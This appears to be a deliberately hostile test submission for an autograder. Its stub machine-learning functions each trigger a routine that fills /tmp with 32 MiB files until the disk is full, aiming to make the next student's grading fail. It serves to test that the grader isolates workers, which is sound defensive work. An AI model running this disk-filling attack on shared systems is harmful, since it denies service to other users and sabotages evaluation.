# Hostile submission (the first of a pair, graded before a classmate on the same warm
# worker): at its first call it fills /tmp until the disk is full, hoping that every later
# submission on the worker fails with "No space left on device". It implements
# nothing. Expected: it earns nothing, and the next submission keeps full marks (each
# job's /tmp is proven fresh: a worker whose free space changed is replaced).
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import errno

_DONE = []  # the attack runs once, at the first call


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    _CHUNK = b"\0" * (1 << 20)
    for _n in range(100_000):
        try:
            with open(f"/tmp/filler-{_n}", "wb") as _f:
                for _ in range(32):
                    _f.write(_CHUNK)
        except OSError as e:  # the file-size limit: the next name; a full disk: done
            if e.errno == errno.ENOSPC:
                break
    print("tmp_filler: /tmp is full")


def forward(params, X):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def cost(params, X, Y, C):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def gradients(params, X, Y, C):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def momentum_step(params, grads, rho_prev, eta, alpha):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def learning_rate(eta0, d, epoch):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def one_hot(y, K):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def predict(params, X):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    _attack()
    raise NotImplementedError("tmp_filler implements nothing")
